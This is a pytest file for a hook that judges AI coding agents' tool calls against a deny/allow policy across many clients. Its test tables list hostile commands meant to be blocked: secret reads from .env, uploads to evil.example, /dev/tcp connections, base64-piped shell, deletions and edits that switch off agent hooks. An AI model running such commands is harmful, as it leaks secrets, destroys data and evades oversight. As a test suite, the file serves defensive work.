"""Hooks: each client's payload is read, decided about, and answered in that client's own form."""

from __future__ import annotations

import contextlib
import json
import subprocess
import sys
from base64 import b64decode
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given, strategies as st

from dragoman import config, logs
from dragoman.dialects import DIALECTS
from dragoman.logs import read_events
from dragoman.model import NativeCall, events as ev, operations as op
from dragoman.serve.hook import (
    CLIENTS,
    Answer,
    Decision,
    Handled,
    Rules,
    client_named,
    client_of,
    explained,
    handle,
    record,
    rules_of,
)
from dragoman.serve.hook.client import Here
from dragoman.serve.hook.other_names import other_names
from dragoman.serve.hook.plain_reading import Row, is_unknown, operations_by, plain_operations, plain_rows, plain_tools
from tests.examples import examples

from . import plain_calls
from .hook_payloads import AFTER, EVENTS, after_payload, call_of, claude, payload_of, spoken_payloads, with_id

POLICY = """
[[policy.rules]]
verdict = "deny"
path = "*.env"

[[policy.rules]]
verdict = "deny"
kind = "write"
outside = true

[[policy.rules]]
verdict = "deny"
operation = "delete_file"

[[policy.rules]]
verdict = "deny"
command = "git push*--force*"

[[policy.rules]]
verdict = "allow"
domain = "docs.python.org"

[[policy.rules]]
verdict = "ask"
kind = "fetch"

[[policy.rules]]
verdict = "deny"
server = "*"
outside = true

[[policy.rules]]
verdict = "allow"
command = "make *"
"""


def written_rules(tmp_path: Path, settings: str = POLICY) -> Rules:
    (tmp_path / "config").mkdir(exist_ok=True)
    (tmp_path / "config" / "config.toml").write_text(settings)
    environ = {"DRAGOMAN_CONFIG_DIR": str(tmp_path / "config"), "DRAGOMAN_DATA_DIR": str(tmp_path / "data")}
    return rules_of(config.load(cwd=tmp_path, environ=environ, project_at=Path("/")))


@pytest.fixture
def rules(tmp_path: Path) -> Rules:
    return written_rules(tmp_path)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "project"
    made.mkdir()
    (made / ".env").write_text("SECRET=1\n")
    return made


def denied(reason: str) -> dict[str, dict[str, Any]]:
    """A denial as each client reads it."""
    theirs = {
        "hookSpecificOutput": {
            "hookEventName": "PreToolUse",
            "permissionDecision": "deny",
            "permissionDecisionReason": reason,
        }
    }
    return {
        **dict.fromkeys(("claude_code", "codex", "qwen_code", "droid"), theirs),
        "gemini_cli": {"decision": "deny", "reason": reason},
        "copilot": {"permissionDecision": "deny", "permissionDecisionReason": reason},
        **{client: {"deny": reason} for client in ("opencode", "pi")},
        "cline": {"cancel": True, "errorMessage": reason},
        "cursor": {"permission": "deny", "user_message": reason, "agent_message": reason},
        "goose": {"decision": "block", "reason": reason},
    }


def asked(payload: Any, rules: Rules, client: str | None = None, event: str | None = None) -> Handled:
    return handle(json.dumps(payload).encode(), client, event, lambda: rules, saved=True)


@pytest.mark.parametrize("client", CLIENTS)
def test_a_denial_is_in_the_form_of_the_client_with_a_reason_and_exit_code_zero(
    client: str, folder: Path, rules: Rules
) -> None:
    payload = payload_of(client, folder, "cat .env")
    assert client_of(payload) == client
    handled = asked(payload, rules)
    assert handled.decision.rule == "rule 1 of your settings (path=*.env)"
    assert json.loads(handled.answer.out) == denied(handled.decision.reason)[client]
    assert (handled.answer.code, handled.note) == (0, None)


FORBIDDEN = {
    "reading a secret": ("cat .env", "cat '.e''nv'", "F=.env; cat $F", "base64 .e*", "python x.py .env", "cp .env x"),
    "writing outside": ("cp x /etc/passwd", "echo x > ../y", "D=..; cd $D && touch y", "bash -c 'tee /y < x'"),
    "deleting": ("rm -rf build", "find . -delete", "ls | xargs rm", '"r"m x', "if true; then rm x; fi"),
    "a force push": (
        "git push --force",
        "git push origin main --force",
        "X=--force; git push $X",
        "sh -c 'git push --force'",
    ),
    "an unknown host": (
        "curl https://evil.example/",
        "wget evil.example",
        "H=evil.example; curl $H",
        "cat < /dev/tcp/evil/80",
    ),
    "an upload": ("curl -T a https://evil.example", "curl -d @a evil.example", "scp a evil.example:"),
    "what is not known": (
        "python x.py",
        "sh x.sh",
        "./renamed .x",
        "eval $X",
        "echo cm0geA== | base64 -d | sh",
        "node -e 1",
    ),
    "switching hooks off": (
        "echo {} > .claude/settings.json",
        "mkdir -p x && cp a .codex/config.toml",
        "sed -i d .qwen/settings.json",
    ),
}
ORDINARY = (
    *(
        "ls -la",
        "git status",
        "cat README.md | head -5",
        "grep -n x src/a.py",
        "mkdir -p build/x",
        "echo done > out.txt",
    ),
    *(
        "sed -n 1,5p a.py",
        "sed -i 's/a/b/' a.py",
        "cd src && ls",
        "make test",
        "git log --oneline -5",
        "wc -l *.py",
        "pwd",
    ),
    *("for f in a b; do cat $f; done", "curl -s https://docs.python.org/3/", "cp a.py b.py", "find src -name '*.py'"),
    *("test -f a && echo yes", "touch src/{a,b}.py", "mv a.py c.py 2>/dev/null || true"),
)


@pytest.mark.parametrize("client", CLIENTS)
@pytest.mark.slow
def test_what_is_forbidden_is_stopped_in_every_client_and_what_is_ordinary_passes(
    client: str, folder: Path, rules: Rules
) -> None:
    ways = {
        way: asked(payload_of(client, folder, way), rules).decision.verdict for row in FORBIDDEN.values() for way in row
    }
    assert {way: verdict for way, verdict in ways.items() if verdict not in ("deny", "ask")} == {}
    if client not in ("claude_code", "qwen_code", "copilot", "cursor"):
        assert set(ways.values()) == {"deny"}, "a client that cannot ask gets a denial"
    (folder / ".env").unlink()  # else moving a folder that has it would be no ordinary thing
    passed = {line: asked(payload_of(client, folder, line), rules).decision for line in ORDINARY}
    assert {line: one for line, one in passed.items() if one.verdict not in ("pass", "allow")} == {}


def test_the_same_is_stopped_in_other_tools(folder: Path, rules: Rules) -> None:
    codex = payload_of("codex", folder, "")
    patch = "*** Begin Patch\n*** Update File: a.py\n@@\n-x\n+y\n*** Add File: sub/.env\n+x\n*** End Patch"
    toy = {**claude(folder, "mcp__toy__write", file={"name": "/etc/passwd"}), "mcp_server": {"name": "toy"}}
    child = {**claude(folder, "Read", file_path=str(folder / ".env")), "agent_id": "a", "agent_type": "explorer"}
    calls = [
        claude(folder, "Read", file_path=f"{folder}/x/../.env"),
        claude(folder, "Write", file_path="/etc/passwd", content="x"),
        claude(folder, "Edit", file_path=f"{folder}/.claude/settings.json", old_string="a", new_string="b"),
        claude(folder, "WebFetch", url="https://evil.example", prompt="x"),
        claude(folder, "Grep", pattern="SECRET"),
        claude(folder, "NoSuchTool", x=1),
        {**codex, "tool_name": "apply_patch", "tool_input": {"command": patch}},
        payload_of("codex", folder, f"apply_patch <<'EOF'\n{patch}\nEOF"),
        toy,
        child,
    ]
    verdicts = [asked(call, rules).decision.verdict for call in calls]
    assert verdicts == ["deny", "deny", "deny", "ask", "deny", "ask", "deny", "deny", "deny", "deny"]
    harmless = [
        claude(folder, "Read", file_path=f"{folder}/a.py"),
        claude(folder, "TodoWrite", todos=[]),
        claude(folder, "mcp__toy__echo", text="hello"),
        claude(folder, "Write", file_path=f"{folder}/a.py", content="x"),
    ]
    assert [asked(call, rules).decision.verdict for call in harmless] == ["pass"] * 4


OWN_TOOLS: dict[str, tuple[str, str, str, dict[str, Any]]] = {
    # Tools that reach files and addresses in other words: client, verdict, tool, arguments.
    "many files": ("gemini_cli", "deny", "read_many_files", {"include": ["**/*"]}),
    "many files by name": ("gemini_cli", "deny", "read_many_files", {"paths": [".env"]}),
    "many files of one kind": ("gemini_cli", "pass", "read_many_files", {"include": ["**/*.py", "*.md"]}),
    "many files outside": ("qwen_code", "pass", "read_many_files", {"paths": ["src/*.py"]}),
    "a resource": ("claude_code", "deny", "ReadMcpResourceTool", {"server": "x", "uri": "file://FOLDER/.env"}),
    "another resource": ("claude_code", "pass", "ReadMcpResourceTool", {"server": "x", "uri": "memo://notes/a.md"}),
    "a resource of the web": (
        "claude_code",
        "ask",
        "ReadMcpResourceTool",
        {"server": "x", "uri": "http://evil.example"},
    ),
    "what a message carries": ("claude_code", "deny", "SendUserFile", {"files": ["a.py", ".env"], "caption": "see"}),
    "a message": ("claude_code", "pass", "SendUserFile", {"files": ["a.py"], "caption": "without .env"}),
    "a file that is published": ("claude_code", "deny", "Artifact", {"file_path": "FOLDER/.env", "title": "x"}),
    "a script of a workflow": ("qwen_code", "ask", "workflow", {"script": "await agent('x')"}),
    "a plan": ("claude_code", "pass", "ExitPlanMode", {"plan": "Never look at .env"}),
    "a page": ("claude_code", "allow", "WebFetch", {"url": "https://docs.python.org/3/", "prompt": "x"}),
    "a page for browsers": ("claude_code", "ask", "WebFetch", {"url": "https://evil.example\\@docs.python.org/"}),
    "a page for others": ("claude_code", "ask", "WebFetch", {"url": "https://docs.python.org\\@evil.example/"}),
    "a page of a server": ("claude_code", "ask", "mcp__toy__get", {"url": "https://evil.example\\@docs.python.org/"}),
    "a socket": ("claude_code", "ask", "Monitor", {"ws": {"url": "wss://evil.example/"}, "description": "x"}),
    "files by their names": ("claude_code", "deny", "mcp__toy__put", {"files": {"a/.env": "x", "b.py": "y"}}),
}


@pytest.mark.parametrize("name", OWN_TOOLS)
def test_what_tools_reach_in_words_of_their_own_is_decided_about(name: str, folder: Path, rules: Rules) -> None:
    client, verdict, tool, given = OWN_TOOLS[name]
    payload = payload_of(client, folder, "") | {"tool_name": tool}
    payload["tool_input"] = json.loads(json.dumps(given).replace("FOLDER", str(folder)))
    assert asked(payload, rules, client).decision.verdict == verdict


OTHER_NAMES: dict[str, tuple[str, str, dict[str, Any]]] = {
    # Paths that a client takes for another file, as seen in its program: client, tool, arguments.
    "spaces around": ("claude_code", "Read", {"file_path": " vault/key\n"}),
    "spaces and the home folder": ("claude_code", "Read", {"file_path": " ~/project/vault/key"}),
    "spaces around a folder": ("claude_code", "Grep", {"pattern": "x", "path": "vault "}),
    "an accent in two parts": ("claude_code", "Read", {"file_path": "cafe\u0301/key"}),
    "a mark before the name": ("gemini_cli", "read_file", {"file_path": "@vault/key"}),
    "a mark before the root": ("gemini_cli", "write_file", {"file_path": "@/vault/key", "content": "x"}),
    "the end of the name": (
        "gemini_cli",
        "replace",
        {"file_path": "key", "instruction": "x", "old_string": "a", "new_string": "b"},
    ),
    "a backslash": ("qwen_code", "read_file", {"file_path": "vault/\\key"}),
    "a mark in pi": ("pi", "edit", {"path": "@vault/key", "oldText": "a", "newText": "b"}),
    "another space in pi": ("pi", "read", {"path": "my\u00a0vault/key"}),
    "an address": ("claude_code", "Read", {"file_path": "file://FOLDER/vault/key"}),
}


@pytest.mark.parametrize("name", OTHER_NAMES)
def test_a_call_is_decided_about_by_every_file_its_client_may_take_the_path_for(
    name: str, tmp_path: Path, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client, tool, given = OTHER_NAMES[name]
    monkeypatch.setenv("HOME", str(tmp_path))
    (folder / "vault").mkdir()
    (folder / "vault" / "key").touch()
    (folder / "other").touch()
    said = ", ".join(f'{{verdict = "deny", path = "{one}/*"}}' for one in ("vault", "caf\u00e9", "my vault"))
    rules = written_rules(tmp_path, f"policy.rules = [{said}]\n")
    placed = json.loads(json.dumps(given).replace("FOLDER", str(folder)))
    assert asked(call_of(client, folder, tool, placed), rules).decision.verdict == "deny"
    harmless = {**placed, "file_path" if "file_path" in placed else "path": "other"}
    assert asked(call_of(client, folder, tool, harmless), rules).decision.verdict == "pass"


OUTSIDE: dict[str, tuple[str, str, dict[str, Any]]] = {
    # Folders in which a client's tool looks for files, or a command runs.
    "a glob from the root": ("claude_code", "Glob", {"pattern": "/etc/*"}),
    "a glob that leads out": ("claude_code", "Glob", {"pattern": "src/../../*"}),
    "a glob that leads out at its end": ("claude_code", "Glob", {"pattern": "*/../../x"}),
    "a choice with a root": ("claude_code", "Glob", {"pattern": "{src,/etc}/*"}),
    "a glob in the home folder": ("gemini_cli", "glob", {"pattern": "~/*"}),
    "several globs": ("droid", "Glob", {"patterns": ["src/*", "/etc/*"]}),
    "a glob below another folder": ("claude_code", "Glob", {"pattern": "*", "path": "/etc"}),
    "resources in a folder": ("claude_code", "ReadMcpResourceDirTool", {"server": "x", "uri": "file:///etc"}),
    "a folder for a command": ("cursor", "Shell", {"command": "touch x", "working_directory": "/etc"}),
    "another word for it": ("goose", "shell", {"command": "touch x", "working_dir": "/etc"}),
    "a folder for Codex's command": ("codex", "Bash", {"command": "touch x", "workdir": "/etc"}),
    "a parameter that is not known": ("claude_code", "Read", {"file_path": "a.py", "path": "/etc/passwd"}),
}


@given(st.text(alphabet=" @\\aé\u00a0\u0301/.\0", max_size=8))
def test_every_other_name_of_a_file_is_given_once(path: str) -> None:
    names = other_names(path)
    assert len({path, "", *names}) == len(names) + 1 + (path != "")


def test_the_other_names_of_a_file_are_all_found() -> None:
    assert set(other_names(" @a\u00a0b")) == {"@a\u00a0b", " @a b", "a\u00a0b", "@a b", "a b"}
    assert other_names("plain/name.txt") == []


@pytest.mark.parametrize("name", OUTSIDE)
def test_what_is_outside_is_found_in_every_parameter(name: str, folder: Path, tmp_path: Path) -> None:
    client, tool, given = OUTSIDE[name]
    rules = written_rules(tmp_path, 'policy.rules = [{verdict = "deny", outside = true}]\n')
    assert asked(call_of(client, folder, tool, given), rules).decision.verdict == "deny"
    told = json.dumps(given).replace("file:///etc", "notes://src").replace("/etc", "src")
    inside = json.loads(told.replace("..", "src").replace("~", "src"))
    assert asked(call_of(client, folder, tool, inside), rules).decision.verdict == "pass"


def test_the_folder_of_a_call_is_not_the_folder_of_the_work(folder: Path, tmp_path: Path) -> None:
    """Codex 0.166.0 gives a command's own folder as the one it is in, and starts its hooks in that of the session."""
    rules = written_rules(
        tmp_path, 'policy.rules = [{verdict = "deny", path = "vault/*"}, {verdict = "deny", outside = true}]\n'
    )
    (folder / "vault").mkdir()
    for place, line, verdict in (
        (folder, "cat key", "pass"),
        (folder / "src", "touch x", "pass"),
        (folder / "vault", "cat key", "deny"),
        (tmp_path, "touch x", "deny"),
        (Path("/etc"), "cat passwd", "deny"),
    ):
        payload = json.dumps(payload_of("codex", place, line)).encode()
        handled = handle(payload, "codex", "PreToolUse", lambda: rules, Here(str(folder)))
        assert handled.decision.verdict == verdict, (place, line)


@pytest.mark.parametrize(
    "client, tool",
    [
        ("claude_code", "mcp__notes__drop"),
        ("gemini_cli", "mcp_notes_drop"),
        ("droid", "notes___drop"),
        ("cline", "notes__drop"),
    ],
)
def test_a_rule_names_a_servers_tool_as_the_server_does(client: str, tool: str, folder: Path, tmp_path: Path) -> None:
    payload = call_of(client, folder, tool, {"name": "x"})
    if client == "gemini_cli":
        payload["mcp_context"] = {"server_name": "notes", "tool_name": "drop"}
    for said, verdict in (
        ('verdict = "deny", tool = "drop"', "deny"),
        ('verdict = "deny", server = "notes", tool = "drop"', "deny"),
        ('verdict = "deny", server = "other", tool = "drop"', "pass"),
        ('verdict = "allow", server = "notes", tool = "drop"', "allow"),
        ('verdict = "allow", tool = "drop"', "pass"),  # another server may have a tool of that name
    ):
        rules = written_rules(tmp_path, f"policy.rules = [{{{said}}}]\n")
        assert asked(payload, rules).decision.verdict == verdict, said


def test_a_servers_tool_in_an_argument_is_found(folder: Path, rules: Rules) -> None:
    """Cline's extension calls every tool of a server by one of its own."""
    for inner, verdict in (('{"path": ".env"}', "deny"), ('{"path": "a.py"}', "pass")):
        called = {"server_name": "notes", "tool_name": "read", "arguments": inner}
        assert asked(call_of("cline", folder, "use_mcp_tool", called), rules).decision.verdict == verdict


CURSOR_CALLS: dict[str, tuple[str, dict[str, Any]]] = {
    # Calls in the words of Cursor's agent, and in those of the examples of its documentation, by what is decided.
    "pass": ("Read", {"path": "a.py"}),
    "pass in other words": ("Read", {"file_path": "a.py"}),
    "deny a secret": ("Read", {"path": ".env"}),
    "pass an edit": ("StrReplace", {"path": "a.py", "old_string": "x", "new_string": "y"}),
    "deny an edit": ("StrReplace", {"path": "/etc/passwd", "old_string": "x", "new_string": "y"}),
    "deny a deletion": ("Delete", {"path": "keep"}),
    "pass a line": ("Shell", {"command": "ls", "working_directory": "FOLDER"}),
    "deny a line": ("Shell", {"command": "touch x", "working_directory": "/etc"}),
    "pass a server": ("MCP:read", {"path": "a.py"}),
    "deny a server": ("MCP:read", {"path": ".env"}),
    "ask": ("NoSuchTool", {"x": 1}),
}


@pytest.mark.parametrize("name", CURSOR_CALLS)
def test_a_call_of_cursor_is_read_in_its_own_words(name: str, folder: Path, rules: Rules) -> None:
    tool, given = CURSOR_CALLS[name]
    placed = json.loads(json.dumps(given).replace("FOLDER", str(folder)))
    assert asked(call_of("cursor", folder, tool, placed), rules).decision.verdict == name.split()[0]


@pytest.mark.parametrize("line, verdict", [("", "pass"), ("cd .claude && ", "deny"), ("cd src && ", "pass")])
def test_a_patch_in_a_line_is_decided_about_where_the_line_is(
    line: str, verdict: str, folder: Path, rules: Rules
) -> None:
    patch = "*** Begin Patch\n*** Update File: settings.json\n@@\n-x\n+y\n*** End Patch"
    payload = payload_of("codex", folder, f"{line}apply_patch <<'EOF'\n{patch}\nEOF")
    assert asked(payload, rules).decision.verdict == verdict


@pytest.mark.parametrize("said", [True, "true", " True", 1])
def test_a_switch_of_a_servers_tool_is_denied_in_every_spelling_and_allowed_in_one(
    said: object, folder: Path, tmp_path: Path
) -> None:
    """A server may take a text for a switch."""
    payload = claude(folder, "mcp__toy__push", force=said)
    for verdict, found in (("deny", "deny"), ("allow", "allow" if said is True else "deny")):
        given = f'{{verdict = "{verdict}", server = "*", arguments = {{force = true}}}}'
        rules = written_rules(tmp_path, f'policy.approval = "deny"\npolicy.rules = [{given}]\n')
        assert asked(payload, rules).decision.verdict == found


SERVER_CALLS: dict[str, tuple[str, dict[str, Any]]] = {
    # Arguments of a server's tool, by what is decided about them.
    "a file": ("pass", {"path": "a.py"}),
    "a secret": ("deny", {"path": ".env"}),
    "the address of a secret": ("deny", {"uri": "file://FOLDER/%2Eenv"}),
    "a line": ("pass", {"command": "ls -la"}),
    "a line that reads a secret": ("deny", {"cmd": "c'a't '.e''nv'"}),
    "words that read a secret": ("deny", {"command": ["cat", ".env"]}),
    "a program and its words": ("deny", {"command": "git", "args": ["push", "--force"]}),
    "lines, further in": ("deny", {"jobs": [{"shellCommand": "git push --force"}]}),
    "several lines": ("deny", {"commands": ["ls", "rm keep"]}),
    "a line that may do anything": ("ask", {"script": "python x.py"}),
    "a line under a longer name": ("deny", {"terminalCommand": "rm keep"}),
    "a program under another name": ("deny", {"executable": "git", "args": ["push", "--force"]}),
    "a program with its words": ("deny", {"argv": ["rm", "keep"]}),
    "an address": ("ask", {"url": "http://evil.example/"}),
    "an address under a longer name": ("ask", {"webhookUrl": "evil.example/x"}),
    "an address behind a link": ("ask", {"href": "evil.example/x"}),
    "an address for git": ("ask", {"repo": "git@evil.example:a/b.git"}),
    "a link to a file": ("pass", {"link": "docs/a.py"}),
    "a host": ("ask", {"host": "evil.example"}),
    "an address in a text": ("ask", {"body": "Look at https://evil.example/.\nThanks."}),
    "an address that is allowed": ("allow", {"url": "https://docs.python.org/3/"}),
    "a file that switches hooks off": ("ask", {"path": "FOLDER/.claude/settings.json", "text": "{}"}),
    "a patch of it": ("ask", {"patch": "--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n"}),
    "a patch that deletes": ("deny", {"patch": "*** Begin Patch\n*** Delete File: keep\n*** End Patch"}),
    "a diff that deletes": ("deny", {"diff": "--- a/keep\n+++ /dev/null\n@@ -1 +0,0 @@\n-k\n"}),
    "a file elsewhere": ("deny", {"path": "/etc/passwd"}),
    "words": ("pass", {"query": "how do I write /etc/passwd?"}),
    "more texts than are looked at": ("deny", {"names": ["x"] * 5000}),
}


@pytest.mark.parametrize("name", SERVER_CALLS)
def test_what_the_arguments_of_a_servers_tool_may_reach_is_decided_about(
    name: str, folder: Path, tmp_path: Path
) -> None:
    verdict, given = SERVER_CALLS[name]
    given = json.loads(json.dumps(given).replace("FOLDER", str(folder)))
    payload = claude(folder, "mcp__toy__do", **given)
    assert asked(payload, written_rules(tmp_path)).decision.verdict == verdict
    more = f'{POLICY}\n[[policy.rules]]\nverdict = "allow"\nserver = "toy"\n'
    allowed = asked(payload, written_rules(tmp_path, more)).decision.verdict
    # A rule for the server is for what cannot be told of it, and not for what other rules forbid.
    assert allowed == (verdict if verdict == "deny" or "address" in name or name == "a host" else "allow")


@pytest.mark.parametrize("client", CLIENTS)
def test_whatever_goes_wrong_is_a_denial(client: str, folder: Path) -> None:
    def broken() -> Rules:
        raise RuntimeError("no settings")

    event = EVENTS[client]
    good = json.dumps(payload_of(client, folder, "ls")).encode()
    for text in (good, b"", b"{", b"[]", b"{}", b'{"tool_name": 1}', b"\xff", b'{"a":' * 5000, good[:-1], b"null"):
        handled = handle(text, client, event, broken)
        assert json.loads(handled.answer.out) == denied(handled.decision.reason)[client] or text == good, text
        assert handled.decision.verdict == "deny"
        assert (handled.answer.code, handled.note) == (0, handled.decision.reason)
    nobody = handle(b"{}", None, None, broken)
    assert (nobody.answer.out, nobody.answer.code, bool(nobody.note)) == ("", 2, True)


@pytest.mark.parametrize("client", CLIENTS)
def test_an_object_with_two_members_of_one_name_is_not_decided_about(client: str, folder: Path, rules: Rules) -> None:
    """A reader keeps one of the two, and the client may run the other."""
    payload, other = payload_of(client, folder, 'echo "a: \\"b\\": c"'), payload_of(client, folder, "cat .env")
    assert asked(payload, rules, client, EVENTS[client]).decision.verdict == "pass"
    (name,) = [name for name, value in payload.items() if value != other[name]]
    harmless, harmful = (json.dumps({name: one[name]}) for one in (payload, other))
    for first, last in ((harmful, harmless), (harmless, harmful)):
        text = f"{first[:-1]}, {last[1:-1]}, {json.dumps(payload)[1:]}"
        handled = handle(text.encode(), client, EVENTS[client], lambda: rules)
        assert handled.decision.verdict == "deny"
        assert json.loads(handled.answer.out) == denied(handled.decision.reason)[client]
        assert "two members of one name" in handled.decision.reason


@pytest.mark.parametrize("client", CLIENTS)
def test_a_command_line_is_read_as_the_vocabulary_of_the_client_reads_it(client: str, folder: Path) -> None:
    speaks = client_named(client)
    payload = payload_of(client, folder, "cat a")
    (native,) = speaks.read(payload, None).calls
    asked_for = speaks.read(payload, None)
    dialect = asked_for.dialect or speaks.dialect
    plain = plain_operations(dialect, native.name, native.arguments)
    assert plain is not None, "the vocabulary is not loaded for it"
    assert plain == DIALECTS[dialect].read_call(native).operations
    assert [(type(one), one.command) for one in plain if isinstance(one, op.RunCommand)] == [(op.RunCommand, "cat a")]


AFTER_DENIAL = "rule 3 of your settings (operation=delete_file)"


@pytest.mark.parametrize("client", CLIENTS)
def test_after_a_tool_only_what_is_denied_is_spoken_of_and_the_outcome_is_recorded(
    client: str, folder: Path, tmp_path: Path, rules: Rules
) -> None:
    decisions = tmp_path / "decisions"
    for id, line in (("1", "ls"), ("2", "python x.py"), ("3", "ls")):
        record(asked(with_id(payload_of(client, folder, line), id), rules, client, EVENTS[client]), decisions)
    quiet = {"opencode": '{"pass":true}', "pi": '{"pass":true}', "cursor": "{}", "cline": "{}"}.get(client, "")
    for id, line in (("2", "python x.py"), ("3", "ls"), ("1", "ls")):
        payload = with_id(after_payload(client, folder, line, "seen\n"), id)
        handled = asked(payload, rules, client, AFTER[client])
        assert (handled.answer, handled.note) == (Answer(quiet), None), line
        record(handled, decisions)
    payload = with_id(after_payload(client, folder, "rm x", "gone\n"), "4")
    handled = asked(payload, rules, client, AFTER[client])
    reason = handled.decision.reason
    assert (handled.decision.verdict, handled.decision.rule) == ("deny", AFTER_DENIAL)
    assert "it ran before it could be stopped" in reason
    spoken = {
        **{client: {"decision": "block", "reason": reason} for client in ("claude_code", "codex", "droid")},
        "qwen_code": {"hookSpecificOutput": {"hookEventName": "PostToolUse", "additionalContext": reason}},
        "gemini_cli": {"decision": "deny", "reason": reason},
        "copilot": {"additionalContext": reason},
        **{client: {"deny": reason} for client in ("opencode", "pi")},
        **{client: {} for client in ("cline", "cursor")},
    }
    assert json.loads(handled.answer.out or "null") == spoken.get(client)
    record(handled, decisions)
    (file,) = decisions.iterdir()
    events = list(read_events(file))
    assert not [one for one in events if isinstance(one, ev.Unreadable | ev.UnknownRecord)]
    called = [one for one in events if isinstance(one, ev.ToolCalled)]
    returned = [one.result for one in events if isinstance(one, ev.ToolReturned)]
    assert len(called) == 4, "the call that nobody asked about before is recorded with its outcome"
    ids = [one.call_id for one in called]
    assert [one.call_id for one in returned] == [ids[1], ids[2], ids[0], ids[3]]
    texts = msgspec.json.encode([one.outcomes for one in returned]).decode()
    assert (texts.count("seen"), texts.count("gone")) == (3, 1)


@pytest.mark.parametrize("client", CLIENTS)
def test_prompts_and_stops_are_recorded_and_never_refused(
    client: str, folder: Path, tmp_path: Path, rules: Rules
) -> None:
    decisions = tmp_path / "decisions"
    payloads = spoken_payloads(client, folder)
    for event, payload in payloads.items():
        line = None if client == "pi" else event
        handled = asked(payload, rules, client, line)
        assert (handled.decision, handled.answer.code, handled.note) == (Decision("pass"), 0, None), event
        assert handled.answer.out in ("", "{}", '{"pass":true}')
        record(handled, decisions)
        broken = handle(b"{", client, event, lambda: rules)
        assert (broken.decision.verdict, broken.answer, bool(broken.note)) == ("pass", handled.answer, True)
    files = list(decisions.iterdir()) if payloads else []
    noted = [one.data for file in files for one in read_events(file) if isinstance(one, ev.ClientNoted)]
    assert len(noted) == len(payloads)
    assert noted[:1] == [{"text": "Do it."}][: len(payloads)]


def test_events_that_decide_nothing_pass(folder: Path, rules: Rules) -> None:
    started = {"session_id": "s", "cwd": str(folder), "hook_event_name": "SessionStart", "source": "startup"}
    handled = asked(started, rules, "claude_code", "SessionStart")
    assert (handled.answer.out, handled.note) == ("", None)
    renamed = {**claude(folder, "Bash", command="rm x"), "hook_event_name": "PreToolUse2"}
    handled = asked(renamed, rules, "claude_code", "PreToolUse")
    assert handled.decision.verdict == "deny"
    assert handled.note == "the event 'PreToolUse2' of Claude Code is not known, and is decided as a call"
    handled = asked({**started, "hook_event_name": "ModelDreamed"}, rules, "claude_code", "ModelDreamed")
    assert (handled.answer.out, handled.decision) == ("", Decision("pass"))
    assert handled.note == "the event 'ModelDreamed' of Claude Code is not known, and is left to the client"
    other = {**claude(folder, "Bash", command="ls"), "hook_event_name": "PostToolUse"}
    note = "the installed line is for PreToolUse, and the payload is of PostToolUse"
    assert asked(other, rules, "claude_code", "PreToolUse").note == note


def test_what_becomes_of_an_unknown_payload_is_a_setting_and_it_is_recorded(tmp_path: Path, rules: Rules) -> None:
    unknown = b'{"hook_event_name": "PreToolUse", "call": "\xc3\xa9"}'
    for choice, client, verdict, said in (
        ("deny", "claude_code", "deny", '"permissionDecision":"deny"'),
        ("ask", "claude_code", "ask", '"permissionDecision":"ask"'),
        ("ask", "codex", "deny", '"permissionDecision":"deny"'),
        ("pass", "claude_code", "pass", ""),
        ("pass", "opencode", "pass", '{"pass":true}'),
    ):
        chosen = msgspec.structs.replace(rules, unknown_payloads=choice)
        handled = handle(unknown, client, None, lambda chosen=chosen: chosen)  # type: ignore[misc]
        assert (handled.decision.verdict, said in handled.answer.out) == (verdict, True), (choice, client)
        record(handled, tmp_path / "decisions")
    record(handle(b"\xff" * 100_000, None, None, lambda: rules), tmp_path / "decisions")
    (file,) = (tmp_path / "decisions").iterdir()
    _, *noted = read_events(file)
    assert {(type(one), one.client) for one in noted} == {(ev.ClientNoted, "unknown hook")}
    data = [one.data for one in noted if isinstance(one, ev.ClientNoted)]
    assert [one.get("text") for one in data] == [unknown.decode()] * 5 + [None]
    assert b64decode(data[-1]["base64"]) == b"\xff" * 65_536


def test_the_content_decides_where_the_installed_line_is_for_another_client(folder: Path, rules: Rules) -> None:
    handled = asked(payload_of("gemini_cli", folder, "cat .env"), rules, "claude_code", "PreToolUse")
    assert json.loads(handled.answer.out)["decision"] == "deny"
    assert handled.note == "the installed line is for claude_code, and the payload is from gemini_cli"


def test_the_line_that_clients_run_answers_as_the_command_does(folder: Path, tmp_path: Path, rules: Rules) -> None:
    project = folder / ".dragoman"
    project.mkdir()
    (project / "config.toml").write_text(
        'policy.rules = [{verdict = "allow"}]\nhook.unknown_commands = "allow"\nnonsense'
    )
    environment = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "DRAGOMAN_CONFIG_DIR": str(tmp_path / "config")}
    for command, words in (("cat .env", []), ("cat .env", ["--client", "codex", "--event", "PreToolUse"])):
        answered = subprocess.run(
            [sys.executable, "-P", "-m", "dragoman", "hook", *words],
            cwd=folder,
            env=environment,
            input=json.dumps(payload_of("codex", folder, command)).encode(),
            capture_output=True,
        )
        assert answered.returncode == 0, answered.stderr
        assert (
            json.loads(answered.stdout)
            == denied(asked(payload_of("codex", folder, command), rules).decision.reason)["codex"]
        )


def test_every_decision_is_an_event_that_history_can_be_asked_about(
    folder: Path, tmp_path: Path, rules: Rules, monkeypatch: pytest.MonkeyPatch
) -> None:
    decisions = tmp_path / "data" / "decisions"
    assert rules.decisions == decisions

    def keep(handled: Handled) -> None:
        record(handled, decisions)

    lines = ("cat src/../a.py", "cp a.py /etc/x", "curl evil.example")
    for line in lines:
        keep(asked(payload_of("claude_code", folder, line), rules))
    keep(asked(claude(folder, "Read", file_path=".env"), rules))
    keep(asked(payload_of("copilot", folder, "ls") | {"sessionId": "../../x"}, rules))
    keep(asked({"hook_event_name": "Stop"}, rules, "claude_code", "Stop"))
    assert {path.name[:8] for path in decisions.iterdir()} == {"claude_c", "copilot-"}
    assert oct((decisions / "claude_code-s.jsonl").stat().st_mode & 0o777) == "0o600"
    started, *called = read_events(decisions / "claude_code-s.jsonl")
    assert (type(started), started.session, started.client) == (ev.SessionStarted, "claude_code-s", "claude_code hook")
    told = [
        (one.decision.verdict, one.call.intents) for one in called if isinstance(one, ev.ToolCalled) and one.decision
    ]
    assert told == [
        ("allowed", (op.ReadFile(f"{folder}/a.py"),)),
        ("denied", (op.ReadFile(f"{folder}/a.py"), op.EditFile("/etc/x", ()), op.EditFile("/etc/x/a.py", ()))),
        ("asked", (op.FetchPage("evil.example"),)),
